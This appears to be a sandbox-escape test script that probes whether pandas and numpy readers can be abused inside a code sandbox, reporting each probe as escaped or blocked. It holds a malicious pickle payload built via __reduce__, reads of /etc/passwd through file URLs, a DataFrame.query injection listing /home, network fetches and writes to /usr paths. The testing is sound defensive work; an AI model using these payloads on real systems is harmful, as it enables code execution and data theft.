# EXPECT-REASON: ok
import os
import sys

if os.environ.get("SBX_ATTACK") != "1":
    sys.exit("only inside a sandbox")


def report(probe, escaped, detail=""):
    print("RESULT", probe, "ESCAPED" if escaped else "BLOCKED", ascii(str(detail))[:160], flush=True)


# What the libraries' own readers would fetch, open or unpickle.
import pickle

import numpy as np
import pandas as pd

host, port = os.environ.get("SBX_HOST_IP", "127.0.0.1"), os.environ.get("SBX_TCP_PORT", "80")


class Runs:
    def __reduce__(self):
        return (os.open, ("/usr/planted", os.O_CREAT | os.O_WRONLY))


for kind in ("x.pkl", "x.npy"):
    with open(f"/tmp/{kind}", "wb") as file:
        pickle.dump(Runs(), file) if kind == "x.pkl" else np.save(file, np.array([Runs()]), allow_pickle=True)
canary = os.environ.get("SBX_CANARY_PATH", "/etc/passwd")
for probe, action in {
    "http": lambda: pd.read_csv(f"http://{host}:{port}/x.csv"),
    "ftp": lambda: pd.read_csv(f"ftp://{host}:{port}/x.csv"),
    "file-url": lambda: pd.read_csv(f"file://{canary}"),
    "path": lambda: np.loadtxt(canary, dtype=str),
    "json": lambda: pd.read_json(f"http://{host}:{port}/x.json"),
    "numpy-source": lambda: np.lib.npyio.DataSource("/tmp").open(f"http://{host}:{port}/x"),
    "pickle": lambda: pd.read_pickle("/tmp/x.pkl"),
    "numpy-pickle": lambda: np.load("/tmp/x.npy", allow_pickle=True),
    "clipboard": lambda: pd.read_clipboard(),
    "query": lambda: pd.DataFrame({"a": [1]}).query("@os.listdir('/home')"),
    "write": lambda: pd.DataFrame({"a": [1]}).to_csv("/usr/lib/planted.csv"),
}.items():
    try:
        answer = action()
    except Exception as error:
        report(probe, False, repr(error))
    else:
        report(probe, True, repr(answer))
